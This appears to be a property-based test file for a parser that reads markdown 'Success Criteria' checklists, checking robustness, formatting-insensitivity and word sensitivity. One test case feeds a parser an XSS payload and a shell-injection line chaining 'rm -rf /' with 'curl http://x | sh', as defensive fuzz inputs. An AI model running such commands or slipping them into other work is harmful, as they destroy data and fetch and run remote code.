import fc from 'fast-check';
import { checks } from '../checks/index.ts';
import { type Interpretation, SpecError } from '../model/spec.ts';
import { seed } from '../tests/tools/seed.ts';
import { parseSpec } from './document/parse-spec.ts';
import { interpret } from './interpret.ts';

const today = new Date('2026-01-01');

function readAll(markdown: string): Interpretation[] {
  return interpret(parseSpec(Buffer.from(markdown), 'spec.md'), checks, today);
}

/** What a line means, wherever it stands and however it is written. */
function meaning({ verdict, checks: requests }: Interpretation): unknown {
  return verdict === 'checkable' ? requests : verdict;
}

function read(line: string): Interpretation {
  const [item] = readAll(`# Task API\n\n## Success Criteria\n\n- [ ] ${line}\n`);
  if (item === undefined) throw new Error(`Nothing was read of "${line}".`);
  return item;
}

/** Sentences that are understood without the heading they stand under. */
const sentences = checks
  .flatMap(({ language }) => language.examples)
  .filter((example) => !example.startsWith('**') && read(example).verdict === 'checkable');

/** The gaps between the words of a sentence, code spans taken as words. */
function gaps(sentence: string): { readonly words: string[]; readonly count: number } {
  const words = sentence.match(/`[^`]*`|[^\s`]+/g) ?? [];
  return { words, count: words.length + 1 };
}

function inserted(sentence: string, at: number, word: string): string {
  const { words } = gaps(sentence);
  return [...words.slice(0, at), word, ...words.slice(at)].join(' ');
}

describe('whatever a file holds', () => {
  const survives = (content: Buffer) => {
    try {
      return interpret(parseSpec(content, 'spec.md'), checks, today);
    } catch (error) {
      if (!(error instanceof SpecError)) throw error;
      return [];
    }
  };

  it('it is read or refused, and bytes by chance promise nothing', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
        expect(survives(Buffer.from(bytes)).filter((item) => item.checks.length > 0)).toEqual([]);
      }),
      { numRuns: 300, seed },
    );
  });

  it('text by chance below a heading promises nothing', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'grapheme', maxLength: 80 }), { maxLength: 8 }),
        (lines) => {
          const text = `## Success Criteria\n\n${lines.map((line) => `- [ ] ${line}\n`).join('')}`;
          expect(survives(Buffer.from(text)).filter((item) => item.checks.length > 0)).toEqual([]);
        },
      ),
      { numRuns: 300, seed },
    );
  });

  it.each<[string, string]>([
    ['a line of a million characters', `- [ ] Image size ${'under '.repeat(170_000)}200MB`],
    ['a hundred nested quotes', `${'> '.repeat(100)}- [ ] Container builds`],
    [
      'a thousand nested lists',
      Array.from(
        { length: 1000 },
        (_, n) => `${'  '.repeat(Math.min(n, 200))}- [ ] Container builds`,
      ).join('\n'),
    ],
    ['a million asterisks', '*'.repeat(1_000_000)],
    ['many ands', `- [ ] ${Array.from({ length: 300 }, () => 'Container builds').join(' and ')}`],
    ['many commas', `- [ ] ${'Image, '.repeat(3000)}`],
    [
      'a list of many variables',
      `- [ ] The body does NOT contain any of: ${Array.from({ length: 30 }, (_, n) => `\`KEY_NUMBER_${n}\``).join(', ')}.`,
    ],
    [
      'words that every object of JavaScript has',
      '- [ ] constructor toString __proto__ valueOf\n- [ ] Base image is constructor:1\n- [ ] hasOwnProperty=200MB',
    ],
    ['HTML', '- [ ] <script>alert(1)</script> Container builds <img src=x onerror=alert(1)>'],
    ['shell', '- [ ] Container builds; $(rm -rf /) `; rm -rf /` && curl http://x | sh'],
  ])(
    '%s ends soon, without a crash',
    (_name, body) => {
      survives(Buffer.from(`## Success Criteria\n\n${body}\n`));
      // A bound against hanging, some hundred times what it takes.
    },
    120_000,
  );
});

describe('how a sentence is written does not change what it means', () => {
  it.each(sentences)('%s', (sentence) => {
    const expected = meaning(read(sentence));
    const { words } = gaps(sentence);
    const wrapped = words.join('\n  ');
    const lists = ['- [ ] ', '* ', '+ [x] ', '1. ', '12) [ ] ', '-    ', '- [X] '];
    for (const bullet of lists) {
      const [item] = readAll(`## Success Criteria\n\n${bullet}${sentence}\n`);
      expect([bullet, item && meaning(item)]).toEqual([bullet, expected]);
    }
    for (const text of [
      wrapped,
      `${sentence}.`,
      `${sentence};`,
      `**${sentence}**`,
      `_${sentence}_`,
      sentence.replace(/^(\w+)/, '*$1*'),
      sentence.replace(/^(\w+)/, '<b>$1</b>'),
      `${sentence}  `,
      sentence.replaceAll(' ', '  '),
      `[${sentence}](https://example.com/1)`,
    ]) {
      expect([text, meaning(read(text))]).toEqual([text, expected]);
    }
  });

  it('neither does the order of items', () => {
    fc.assert(
      fc.property(fc.shuffledSubarray(sentences, { minLength: 2 }), (order) => {
        const items = readAll(
          `# Task API\n\n## Success Criteria\n\n${order.map((line) => `- [ ] ${line}\n`).join('')}`,
        );
        expect(items.map(meaning)).toEqual(order.map((line) => meaning(read(line))));
      }),
      { numRuns: 20, seed },
    );
  });
});

describe('a word more is never overlooked', () => {
  it.each(sentences)('%s', (sentence) => {
    const expected = meaning(read(sentence));
    for (const word of ['not', 'no', 'unless', 'zebra']) {
      for (let at = 0; at < gaps(sentence).count; at += 1) {
        const changed = inserted(sentence, at, word);
        expect([changed, meaning(read(changed))]).not.toEqual([changed, expected]);
      }
    }
  });
});
